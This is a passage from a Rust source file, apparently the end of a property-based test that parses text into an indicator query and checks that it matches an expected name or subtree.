                let found = Indicator::read(&text);
                let fits = match &found.as_ref().map(|found| &found.query) {
                    Ok(Query::Name(found)) => what == "name" && *found == name,
                    Ok(Query::Subtree(found)) => what == "below" && *found == name,
                    _ => false,
                };
                prop_assert!(fits, "{text:?} {found:?}");
            }
        }
    }
}
